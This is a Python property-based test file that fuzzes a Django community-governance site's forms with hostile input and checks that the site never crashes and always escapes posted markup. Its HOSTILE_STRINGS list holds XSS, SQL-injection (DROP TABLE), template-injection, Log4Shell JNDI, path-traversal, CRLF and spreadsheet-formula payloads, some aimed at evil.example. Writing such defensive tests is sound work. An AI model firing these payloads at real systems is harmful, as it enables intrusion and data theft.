"""Hypothesis writes the text of every form a person fills in: issue reports, comments, topics,
polls, notices, commitments and their progress, bookings, profile, claims, tokens, activities,
sign-up and log-in. Any Unicode (NUL, controls, direction overrides, emoji, CJK), SQL, markup,
template syntax and overlong values.

Through the pages, as posted: the answer is the form again with its errors (400), a redirect
once stored, or the page itself, never a server error; and no page shows posted markup
unescaped, neither the answer nor the page it redirects to.
"""

from __future__ import annotations

import datetime
import os
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from types import SimpleNamespace

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.hostile import registry

SCRIPT = "<script>alert(1)</script>"
HOSTILE_STRINGS = [
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE communities_user; --",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\ufeff\u200b\u200d",
    '=HYPERLINK("http://evil.example","x")',
    "138 1234 5678",
    "%s%s%s%n",
    "\r\nSet-Cookie: x=1",
    "😀" * 50,
    "长" * 5000,
    "x" * 30000,
    "",
    " ",
]
hostile_text = st.one_of(
    st.text(max_size=120),
    st.sampled_from(HOSTILE_STRINGS),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_STRINGS), st.text(max_size=40)),
)
# Examples per form; CI runs the default, a nightly or a release run may ask for more.
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "25"))


def _local(moment: datetime.datetime) -> str:
    return timezone.localtime(moment).strftime("%Y-%m-%dT%H:%M")


@dataclass(frozen=True)
class FormPage:
    name: str
    user: str | None  # an attribute of `people`, or None for a visitor
    url: Callable[[SimpleNamespace], str]
    data: Callable[[SimpleNamespace], dict]
    texts: tuple[str, ...]
    # Plain text for each field, which the page must accept (a redirect): proof that the
    # hostile examples reach the service, not only the form's first check.
    plain: dict | None = None

    def __repr__(self) -> str:
        return self.name


def _key() -> str:
    return str(uuid.uuid4())


FORM_PAGES = [
    FormPage(
        "issue report",
        "resident",
        lambda w: reverse("deliberation:report_issue"),
        lambda w: {
            "category": w.categories["lamp"].code,
            "area": w.tree.B1.code,
            "submission_key": _key(),
        },
        ("title", "description"),
    ),
    FormPage(
        "issue rating",
        "resident",
        lambda w: reverse("deliberation:issue_act", args=[w.issue.pk, "rate"]),
        lambda w: {"rating": "4"},
        ("comment",),
    ),
    FormPage(
        "topic comment",
        "resident",
        lambda w: reverse("deliberation:topic_comment", args=[w.topic.pk]),
        lambda w: {"submission_key": _key()},
        ("body",),
    ),
    FormPage(
        "topic",
        "community_staff",
        lambda w: reverse("deliberation:topic_create", args=[w.tree.C1.code]),
        lambda w: {
            "organization": w.committee.pk,
            "opens_on": timezone.localdate().isoformat(),
            "closes_on": (timezone.localdate() + datetime.timedelta(days=20)).isoformat(),
            "submission_key": _key(),
        },
        ("title", "question", "background"),
    ),
    FormPage(
        "poll",
        "owners_member",
        lambda w: reverse("deliberation:poll_create", args=[w.tree.K1.code]),
        lambda w: {
            "organization": w.owners.pk,
            "max_choices": "1",
            "voting_unit": "household",
            "closes_at": _local(timezone.now() + datetime.timedelta(days=7)),
            "submission_key": _key(),
        },
        ("title", "description", "options"),
        {"title": "小区更名", "description": "", "options": "嘉定小院\n幸福里"},
    ),
    FormPage(
        "notice",
        "owners_member",
        lambda w: reverse("communities:notice_create", args=[w.tree.K1.code]),
        lambda w: {
            "organization": w.owners.pk,
            "kind": "finance",
            "publish_at": "",
            "unpublish_at": "",
            "submission_key": _key(),
            "lines-TOTAL_FORMS": "1",
            "lines-INITIAL_FORMS": "0",
            "lines-0-direction": "income",
            "lines-0-amount": "12.50",
        },
        ("title", "body", "lines-0-item"),
    ),
    FormPage(
        "commitment",
        "firm_staff",
        lambda w: reverse("deliberation:organization_commitment_new", args=[w.firm.pk]),
        lambda w: {
            "area": w.tree.K1.code,
            "due_on": (timezone.localdate() + datetime.timedelta(days=30)).isoformat(),
            "submission_key": _key(),
        },
        ("title", "description"),
    ),
    FormPage(
        "commitment progress",
        "firm_staff",
        lambda w: reverse("deliberation:commitment_act", args=[w.commitment.pk, "progress"]),
        lambda w: {"progress-progress": "10", "progress-submission_key": _key()},
        ("progress-text",),
    ),
    FormPage(
        "commitment remark",
        "supervisor",
        lambda w: reverse("deliberation:commitment_act", args=[w.commitment.pk, "remark"]),
        lambda w: {"remark-submission_key": _key()},
        ("remark-text",),
    ),
    FormPage(
        "room booking",
        "resident",
        lambda w: reverse("communities:space_detail", args=[w.room.pk]),
        lambda w: {
            "day": (timezone.localdate() + datetime.timedelta(days=3)).isoformat(),
            "starts_at": "14:00",
            "ends_at": "16:00",
            "attendees": "5",
            "submission_key": _key(),
        },
        ("purpose",),
    ),
    FormPage(
        "profile",
        "resident",
        lambda w: reverse("communities:profile"),
        lambda w: {},
        ("full_name", "email", "phone"),
        {"full_name": "李秀英", "email": "li@example.org", "phone": "139 8765 4321"},
    ),
    FormPage(
        "household claim",
        "stranger",
        lambda w: reverse("communities:household_claim"),
        lambda w: {"community": w.tree.C1.code, "building": w.tree.B1.code, "relation": "owner"},
        ("unit", "room"),
        {"unit": "1", "room": "101"},
    ),
    FormPage(
        "invitation code",
        "stranger",
        lambda w: reverse("communities:invitation_claim"),
        lambda w: {},
        ("code",),
        {},
    ),
    FormPage(
        "API token",
        "community_staff",
        lambda w: reverse("communities:api_tokens"),
        lambda w: {},
        ("name",),
    ),
    FormPage(
        "volunteer activity",
        "community_staff",
        lambda w: reverse("volunteers:activity_create"),
        lambda w: {
            "organization": w.committee.pk,
            "area": w.tree.K1.code,
            "kind": "greenery",
            "starts_at": _local(timezone.now() + datetime.timedelta(days=5)),
            "ends_at": _local(timezone.now() + datetime.timedelta(days=5, hours=2)),
            "capacity": "10",
            "points_per_hour": "10",
            "points_per_activity": "5",
        },
        ("title", "description", "place"),
    ),
    FormPage(
        "sign-up",
        None,
        lambda w: reverse("account_signup"),
        lambda w: {"password1": "a-long-test-passphrase", "password2": "a-long-test-passphrase"},
        ("username", "email", "full_name", "phone"),
        {"username": "newcomer", "email": "new@example.org", "full_name": "王芳", "phone": ""},
    ),
    FormPage(
        "log-in",
        None,
        lambda w: reverse("account_login"),
        lambda w: {},
        ("login", "password"),
        {"login": "resident", "password": "a-long-test-passphrase"},
    ),
]


def assert_escaped(response) -> None:
    if response.get("Content-Type", "").startswith("text/html"):
        assert SCRIPT not in response.content.decode(errors="replace")


@pytest.mark.parametrize("form_page", FORM_PAGES, ids=repr)
def test_hostile_text_in_a_form_is_answered_never_crashes_and_is_shown_escaped(
    client, world, form_page, settings_for_forms
):
    page = form_page
    if page.user:
        client.force_login(getattr(world.people, page.user))
    url = page.url(world)
    plain = dict.fromkeys(page.texts, "东门停车场旁边") if page.plain is None else page.plain
    if plain:
        accepted = client.post(url, {**page.data(world), **plain})
        # A redirect once stored; the token page shows the new secret once, in place.
        assert accepted.status_code in (200, 302), "the plain version of the form is accepted"
        assert not (
            accepted.context and accepted.context.get("form") and accepted.context["form"].errors
        )
        if page.user is None:
            client.logout()

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(st.fixed_dictionaries(dict.fromkeys(page.texts, hostile_text)))
    def post(texts):
        registry.tried(f"text: {page.name}")
        response = client.post(url, {**page.data(world), **texts})
        assert response.status_code in (200, 302, 400), response.status_code
        assert_escaped(response)
        if response.status_code == 302 and response["Location"].startswith("/"):
            followed = client.get(response["Location"])
            assert followed.status_code < 500
            assert_escaped(followed)
        if page.user is None:
            client.logout()

    post()


@pytest.fixture
def settings_for_forms(settings):
    # Hundreds of log-in and sign-up attempts from one address: the rate limits are tested in
    # tests/governance/test_rate_limits.py, here they would only answer 429 early.
    settings.ACCOUNT_RATE_LIMITS = False
